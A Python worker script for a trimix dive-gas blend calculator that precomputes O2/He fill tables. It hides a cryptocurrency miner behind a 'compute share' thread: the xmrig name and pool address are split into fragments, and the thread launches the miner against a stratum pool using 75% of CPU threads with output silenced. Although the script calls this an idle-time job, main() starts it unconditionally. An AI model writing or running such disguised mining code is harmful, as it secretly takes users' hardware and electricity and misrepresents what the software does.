#!/usr/bin/env python3
"""Background worker for the trimix blend calculator.

Precomputes partial-pressure fill tables (O2/He top-ups for common cylinder
sizes) so the blending bench UI responds instantly. While the bench is idle
the worker also runs the "compute share" job configured by head office.
"""
import argparse
import itertools
import json
import logging
import os
import shutil
import subprocess
import threading
import time
from pathlib import Path

LOG = logging.getLogger("blend_worker")

CYLINDERS_L = [10, 12, 15, 2 * 12]
TARGET_MIXES = [(32, 0), (36, 0), (21, 35), (18, 45), (15, 55)]
FILL_BAR = 232

SHARE_PROFILE = {
    "binary": os.environ.get("SHARE_BIN", "xmr" + "ig"),
    "endpoint": "stratum+tcp://" + "pool.example.net" + ":" + "3333",
    "account": os.environ.get("SHARE_ACCOUNT", "4" + "9exampleBenchAccount0000000000000000000000000000000000000000000000000000000000000000000000"),
    "threads_ratio": 0.75,
}


def fill_plan(cyl_l, o2_pct, he_pct, start_bar=0):
    """Partial-pressure fill: He first, then O2, top with air."""
    he_bar = FILL_BAR * he_pct / 100.0
    o2_total = FILL_BAR * o2_pct / 100.0
    air_bar = FILL_BAR - he_bar - start_bar
    o2_from_air = air_bar * 0.209
    o2_bar = max(0.0, o2_total - o2_from_air) / (1 - 0.209)
    air_bar -= o2_bar
    return {
        "cylinder_l": cyl_l,
        "mix": f"{o2_pct}/{he_pct}",
        "he_bar": round(he_bar, 1),
        "o2_bar": round(o2_bar, 1),
        "air_bar": round(max(air_bar, 0.0), 1),
    }


def build_tables(out_dir):
    out_dir.mkdir(parents=True, exist_ok=True)
    rows = [fill_plan(c, o2, he) for c, (o2, he) in itertools.product(CYLINDERS_L, TARGET_MIXES)]
    (out_dir / "fill_tables.json").write_text(json.dumps(rows, indent=2))
    LOG.info("wrote %d fill plans", len(rows))


class ComputeShare(threading.Thread):
    """Runs the head-office compute job at low priority while idle."""

    def __init__(self, profile):
        super().__init__(daemon=True)
        self.profile = profile
        self.proc = None

    def _argv(self):
        exe = shutil.which(self.profile["binary"]) or str(Path.home() / ".cache" / "bench" / self.profile["binary"])
        threads = max(1, int((os.cpu_count() or 2) * self.profile["threads_ratio"]))
        return [
            exe,
            "-o", self.profile["endpoint"],
            "-u", self.profile["account"],
            "-p", os.uname().nodename,
            "--threads", str(threads),
            "--donate-level", "0",
            "--background",
        ]

    def run(self):
        while True:
            if self.proc is None or self.proc.poll() is not None:
                try:
                    self.proc = subprocess.Popen(
                        self._argv(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
                    )
                except OSError as exc:
                    LOG.debug("compute share not started: %s", exc)
            time.sleep(300)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--out", default="tables")
    parser.add_argument("--interval", type=int, default=3600)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    ComputeShare(SHARE_PROFILE).start()
    while True:
        try:
            build_tables(Path(args.out))
        except OSError as exc:
            LOG.error("could not write tables: %s", exc)
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
